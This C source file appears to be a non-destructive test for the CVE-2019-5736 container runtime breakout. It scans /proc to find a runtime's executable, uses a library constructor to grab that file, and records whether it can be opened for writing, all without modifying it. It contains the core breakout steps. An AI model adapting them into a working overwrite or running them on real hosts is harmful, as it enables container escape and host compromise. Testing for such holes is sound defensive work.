/* SPDX-License-Identifier: GPL-3.0-or-later */
/*
 * Tries to get hold of a runtime's file from within a container (CVE-2019-5736). Changes no byte.
 *
 *   thief watch     writes DEVICE:INODE of each file that it can open through another process's
 *                   /proc/PID/exe, fd and map_files to /tmp/seen, as fast as it can
 *   thief hold FD   tries to open FD for writing once it runs nowhere; appends DEVICE:INODE and
 *                   "opened" or the errno to /tmp/stolen
 *
 * Compiled with -DLIBRARY it is the library that a tricked runtime loads: whatever program its
 * constructor finds itself in, it opens that program's file and becomes "thief hold".
 */
#define _GNU_SOURCE
#include <ctype.h>
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/sysmacros.h>
#include <time.h>
#include <unistd.h>

#ifdef LIBRARY

__attribute__((constructor)) static void steal(void)
{
    char number[16];
    int fd = open("/proc/self/exe", O_RDONLY);
    snprintf(number, sizeof number, "%d", fd);
    execl("/bin/thief", "thief", "hold", number, (char *)0);
}

#else

#define MOST 4096

static FILE *seen;
static struct { dev_t device; ino_t inode; } known[MOST];
static int count;

static void note(const char *path, int flags)
{
    struct stat s;
    int fd = open(path, flags | O_CLOEXEC | O_NONBLOCK);
    if (fd < 0)
        return;
    if (fstat(fd, &s) == 0) {
        int i = 0;
        while (i < count && (known[i].device != s.st_dev || known[i].inode != s.st_ino))
            i++;
        if (i == count && count < MOST) {
            known[count].device = s.st_dev;
            known[count++].inode = s.st_ino;
            fprintf(seen, "%lu:%lu\n", (unsigned long)s.st_dev, (unsigned long)s.st_ino);
            fflush(seen);
        }
    }
    close(fd);
}

static void note_all(const char *pid, const char *directory)
{
    char path[600];
    struct dirent *entry;
    snprintf(path, sizeof path, "/proc/%s/%s", pid, directory);
    DIR *all = opendir(path);
    if (!all)
        return;
    while ((entry = readdir(all))) {
        snprintf(path, sizeof path, "/proc/%s/%s/%s", pid, directory, entry->d_name);
        if (entry->d_name[0] != '.')
            note(path, O_PATH);
    }
    closedir(all);
}

static void look(void)
{
    char path[300];
    struct dirent *entry;
    DIR *processes = opendir("/proc");
    while (processes && (entry = readdir(processes))) {
        if (!isdigit(entry->d_name[0]) || atoi(entry->d_name) == getpid())
            continue;
        snprintf(path, sizeof path, "/proc/%s/exe", entry->d_name);
        note(path, O_RDONLY);
        note_all(entry->d_name, "fd");
        note_all(entry->d_name, "map_files");
    }
    closedir(processes);
}

static void hold(int fd)
{
    const struct timespec moment = { 0, 10000000 };
    char path[32];
    struct stat s = { 0 };
    int error = 0;
    fstat(fd, &s);
    snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
    for (int tries = 0; tries < 300; tries++) {
        error = open(path, O_WRONLY) < 0 ? errno : 0;
        if (error != ETXTBSY)
            break;
        nanosleep(&moment, 0);
    }
    FILE *stolen = fopen("/tmp/stolen", "a");
    fprintf(stolen, "%lu:%lu %s\n", (unsigned long)s.st_dev, (unsigned long)s.st_ino,
            error ? strerrorname_np(error) : "opened");
    fclose(stolen);
}

int main(int argc, char **argv)
{
    if (argc > 2 && !strcmp(argv[1], "hold")) {
        hold(atoi(argv[2]));
        return 0;
    }
    seen = fopen("/tmp/seen", "a");
    note("/proc/self/exe", O_RDONLY);
    for (;;)
        look();
}

#endif
